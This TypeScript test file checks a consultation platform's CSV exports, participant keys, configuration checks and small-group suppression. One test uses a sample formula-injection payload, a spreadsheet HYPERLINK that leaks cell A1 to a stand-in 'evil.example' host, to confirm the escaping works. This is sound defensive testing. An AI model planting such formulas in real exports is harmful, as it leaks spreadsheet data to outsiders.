import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvField, csvRecords, FORMULA_ESCAPE } from "~/exports/csv";
import { parseEnv } from "~/platform/env.server";
import { opinionGroupRows, opinionStatementRows, type StoredAnalysis } from "~/exports/opinion-tables";
import { participantKey, participantKeys } from "~/exports/participant-key.server";
import type { StoredGroup, StoredGroupsFound } from "~/opinion/stored";
import { DEFAULT_SMALL_CELL_THRESHOLD } from "~/reports/small-cells";

describe("csvRecords", () => {
  it("parses back to the same fields, whatever the text (RFC 4180 reader)", () => {
    const field = fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom('"', ",", "\r\n", "\n", '""', " a,b "));
    fc.assert(
      fc.property(
        fc.array(fc.array(field, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 20 }),
        (rows) => {
          const width = rows[0]!.length;
          const table = rows.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ""));
          const parsed = parse(csvRecords(table), {
            record_delimiter: "\r\n",
            relax_column_count: false,
          }) as string[][];
          expect(parsed).toEqual(table);
        },
      ),
    );
  });

  it("ends every record with CRLF and quotes only what needs it", () => {
    expect(
      csvRecords([
        ["a", 1, true, null],
        ['say "hi"', "x,y", "two\nlines", false],
      ]),
    ).toBe('a,1,true,\r\n"say ""hi""","x,y","two\nlines",false\r\n');
    expect(csvField("plain text")).toBe("plain text");
  });
});

describe("CSV formula escaping (decision 0008)", () => {
  const attack = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")';

  it("escapes a cell a spreadsheet would read as a formula, only when asked", () => {
    expect(csvField(attack)).toBe('"=HYPERLINK(""https://evil.example/?leak=""&A1,""Details"")"');
    expect(csvField(attack, { escapeFormulas: true })).toBe(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Details"")"`,
    );
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      expect(csvField(`${start}1+1`, { escapeFormulas: true }).replace(/^"/, "")).toMatch(/^'/);
    }
    // Numbers are typed values, never text a spreadsheet evaluates: -3 stays -3.
    expect(csvRecords([[-3, "- a list item", "a-b"]], { escapeFormulas: true })).toBe("-3,'- a list item,a-b\r\n");
  });

  it("property: no escaped text cell starts a formula, and taking the mark off gives the text back", () => {
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r"), fc.string()).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (row) => {
        const [parsed] = parse(csvRecords([row], { escapeFormulas: true }), { record_delimiter: "\r\n" }) as string[][];
        parsed!.forEach((cell, i) => {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          const original = row[i]!;
          expect(/^[=+\-@\t\r]/.test(original) ? FORMULA_ESCAPE + original : original).toBe(cell);
        });
      }),
    );
  });
});

describe("participantKey", () => {
  it("differs by consultation and by member, and never contains the account id", () => {
    const secret = "s".repeat(64);
    const key = participantKey(secret, 1, "user-123");
    expect(key).toMatch(/^[0-9a-f]{32}$/);
    expect(participantKey(secret, 2, "user-123")).not.toBe(key);
    expect(participantKey(secret, 1, "user-124")).not.toBe(key);
    expect(participantKey("t".repeat(64), 1, "user-123")).not.toBe(key);
  });

  it("remembers recent members without changing their keys, past its memory too", () => {
    const secret = "s".repeat(64);
    const keys = participantKeys(secret, 7, 3);
    const ids = ["a", "b", "c", "d", "e", "a", "b"];
    expect(ids.map(keys)).toEqual(ids.map((id) => participantKey(secret, 7, id)));
  });
});

describe("SMALL_CELL_THRESHOLD", () => {
  it("defaults to 5 and can be raised", () => {
    expect(parseEnv({ DATA_DIR: "memory://" }).SMALL_CELL_THRESHOLD).toBe(DEFAULT_SMALL_CELL_THRESHOLD);
    expect(parseEnv({ DATA_DIR: "memory://", SMALL_CELL_THRESHOLD: "10" }).SMALL_CELL_THRESHOLD).toBe(10);
  });

  it.each(["1", "2.5", "many", "1000"])("refuses %s with one readable line", (value) => {
    expect(() => parseEnv({ DATA_DIR: "memory://", SMALL_CELL_THRESHOLD: value })).toThrow(
      /^Invalid configuration: SMALL_CELL_THRESHOLD must be a whole number from 2 to 100\.$/,
    );
  });
});

describe("opinion-group tables", () => {
  const computedAt = new Date("2026-03-01T10:00:00Z");
  const coverage = {
    participantsTotal: 40,
    statementsTotal: 6,
    votesCounted: 200,
    minVotes: 6,
    minParticipants: 10,
    latestVoteAt: null,
  };
  const group = (label: StoredGroup["label"], size: number, representative: StoredGroup["representative"] = []) => ({
    label,
    size,
    centroid: [0, 0] as const,
    representative,
  });
  const analysis = (groups: StoredGroup[], rest: Partial<StoredGroupsFound> = {}): StoredAnalysis => ({
    computedAt,
    summary: {
      status: "ok",
      ...coverage,
      participantsPlaced: groups.reduce((sum, g) => sum + g.size, 0),
      groups,
      consensus: [],
      points: [],
      ...rest,
    },
  });

  it("gives each group's size and share, with a total row", () => {
    expect(opinionGroupRows(analysis([group("A", 30), group("B", 10)]), 5)).toEqual([
      { opinion_group: "A", participants: 30, share: 0.75, computed_at: "2026-03-01T10:00:00Z" },
      { opinion_group: "B", participants: 10, share: 0.25, computed_at: "2026-03-01T10:00:00Z" },
      { opinion_group: "all", participants: 40, share: 1, computed_at: "2026-03-01T10:00:00Z" },
    ]);
  });

  it("withholds a small group, and another so it cannot be worked out from the total, shares included", () => {
    const rows = opinionGroupRows(analysis([group("A", 20), group("B", 12), group("C", 3)]), 5);
    expect(rows.map((r) => [r.opinion_group, r.participants, r.share])).toEqual([
      ["A", 20, 20 / 35],
      // B is hidden only so that C cannot be worked out from the total: "withheld", not "<5".
      ["B", "withheld", null],
      ["C", "<5", null],
      ["all", 35, 1],
    ]);
    expect(opinionGroupRows(analysis([group("A", 20), group("B", 8)]), 10)[1]!.participants).toBe("<10");
  });

  it("is empty without a stored analysis or with too few participants", () => {
    const tooFew: StoredAnalysis = {
      computedAt,
      summary: { status: "too-few-participants", ...coverage, participantsPlaced: 4 },
    };
    for (const stored of [null, tooFew]) {
      expect(opinionGroupRows(stored, 5)).toEqual([]);
      expect(opinionStatementRows(stored, () => true)).toEqual([]);
    }
  });

  it("lists representative statements, then consensus once per group, leaving out priorities no longer approved", () => {
    const shares = { agreeInGroup: 0.9, disagreeInGroup: 0.1, agreeElsewhere: 0.2, disagreeElsewhere: 0.7 };
    const stored = analysis(
      [
        group("A", 30, [
          { priorityId: 7, direction: "agree", ...shares, z: 3.2 },
          { priorityId: 8, direction: "agree", ...shares, z: 2.1 },
        ]),
        // Stored before z was kept.
        group("B", 10, [{ priorityId: 9, direction: "disagree", ...shares }]),
      ],
      { consensus: [{ priorityId: 11, agreeInGroups: [0.8, 0.6], score: 0.45 }] },
    );
    const rows = opinionStatementRows(stored, (id) => id !== 8);
    expect(rows.map((r) => [r.opinion_group, r.kind, r.rank, r.priority_id, r.z, r.consensus_score])).toEqual([
      ["A", "representative", 1, 7, 3.2, null],
      ["A", "consensus", 1, 11, null, 0.45],
      ["B", "representative", 1, 9, null, null],
      ["B", "consensus", 1, 11, null, 0.45],
    ]);
    expect(rows.filter((r) => r.kind === "consensus").map((r) => r.agree_in_group)).toEqual([0.8, 0.6]);
    expect(rows[0]).toMatchObject({ direction: "agree", disagree_in_group: 0.1, agree_elsewhere: 0.2 });
    expect(rows[1]).toMatchObject({ direction: null, disagree_in_group: null, agree_elsewhere: null });
  });
});
